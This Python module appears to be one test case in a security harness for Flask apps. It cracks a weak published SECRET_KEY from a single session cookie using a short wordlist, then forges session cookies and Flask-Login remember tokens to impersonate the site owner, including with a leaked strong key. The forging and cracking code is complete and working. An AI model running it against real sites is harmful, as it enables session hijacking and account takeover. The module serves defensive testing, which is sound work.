"""The documentation's SECRET_KEY is found from one cookie, and sessions are forged with it.

Row `cookie-forge`: whoever has the key writes any session and any remember token. Second half:
a strong key that leaked forges nothing either, because a cookie is only a reference.
"""

from __future__ import annotations

import hmac
from hashlib import sha512

from flask import Flask, session
from flask.sessions import SecureCookieSessionInterface
from itsdangerous import BadSignature

from ._browser import CAFE, Browser
from ._people import (
    MALLORY,
    MALLORYS,
    OWNER,
    add_login,
    add_me,
    inside,
    log_in,
    people,
)
from ._row import Outcome, Row, require
from ._target import Target

ROW = Row("crack the docs' SECRET_KEY from one cookie, forge a session and a remember token")

DOCS_KEY = "super secret string"  # the Flask-Login README's own
WORDS = ("secret", "dev", "changeme", "your-secret-key-here", "secret-key", DOCS_KEY, "supersecret")


def build(target: Target, key: str | None) -> Flask:
    """An app that gives every visitor a session cookie, as flash messages do."""
    app = target.app(__name__, key=key)
    users = people(app)
    add_login(app, users)
    add_me(app)

    @app.get("/")
    def start() -> str:
        session["seen"] = True
        return "Welcome."

    return target.ready(app)


def attack(target: Target) -> Outcome:
    """Forge with a guessed key, then with a strong key that leaked."""
    guessed = _with_weak_key(target)
    leaked = _with_leaked_key(target)
    got = [text for text in (guessed, leaked) if text]
    if got:
        return Outcome(True, "; ".join(got))
    return Outcome(False, "forged sessions and remember tokens are refused, with either key")


def _with_weak_key(target: Target) -> str | None:
    app = build(target, DOCS_KEY)
    mallory = Browser(app, address=CAFE)
    require(mallory.get("/").status == 200, "a page without login does not work")
    status = log_in(Browser(app)).status
    require(not target.wrapped or status == 503, f"login under a published key answers {status}")
    require(target.reported("secret-key"), "no event names the command that makes a good key")
    key = crack(mallory)
    if key is None:
        # Nothing to crack: guess the key outright, and the cookie's usual names.
        key = DOCS_KEY
    return _forge(app, key, mallory, "a cracked key")


def _with_leaked_key(target: Target) -> str | None:
    app = build(target, None)
    owner = Browser(app)
    log_in(owner)
    require(inside(owner), "the owner could not log in")
    mallory = Browser(app, address=CAFE)
    log_in(mallory, MALLORY, MALLORYS)
    require(inside(mallory), "Mallory could not log in to an own account")
    assert isinstance(app.secret_key, str)
    return _forge(app, app.secret_key, mallory, "a leaked strong key")


def crack(browser: Browser) -> str | None:
    """Return the key that signed one of the cookies, from a short list of published ones."""
    for key in WORDS:
        for cookie in browser.jar.cookies.values():
            if read(key, cookie.value) is not None:
                return key
    return None


def read(key: str, value: str) -> dict[str, object] | None:
    """Return the session in a cookie if `key` signed it."""
    try:
        content: dict[str, object] = _serializer(key).loads(value)
    except BadSignature:
        return None
    return content


def _serializer(key: str):  # type: ignore[no-untyped-def]  # itsdangerous' class, by Flask's own code
    forger = Flask("forger")
    forger.secret_key = key
    return SecureCookieSessionInterface().get_signing_serializer(forger)


def _forge(app: Flask, key: str, mallory: Browser, how: str) -> str | None:
    identity = f"{mallory.address}|{mallory.agent}".encode()
    login = {
        "_user_id": OWNER,
        "_fresh": True,
        "_id": sha512(identity).hexdigest(),
    }
    # Mallory's own cookie first, with only the name changed: whatever else it holds is real.
    own = [(c.name, read(key, c.value)) for c in mallory.jar.cookies.values()]
    sessions = [(name, content | {"_user_id": OWNER}) for name, content in own if content]
    sessions += [(name, login) for name in ("session", "__Host-session")]
    values = [(name, _serializer(key).dumps(content)) for name, content in sessions]
    token = f"{OWNER}|{hmac.new(key.encode(), OWNER.encode(), sha512).hexdigest()}"
    values += [(name, token) for name in ("remember_token", "__Host-remember_token")]
    won = []
    for name, value in values:
        forger = Browser(app, address=mallory.address, agent=mallory.agent)
        reply = forger.get("/me", headers={"Cookie": f"{name}={value}"})
        if reply.status == 200 and OWNER in reply.text:
            won.append(name)
    return f"with {how} forged: {', '.join(dict.fromkeys(won))}" if won else None
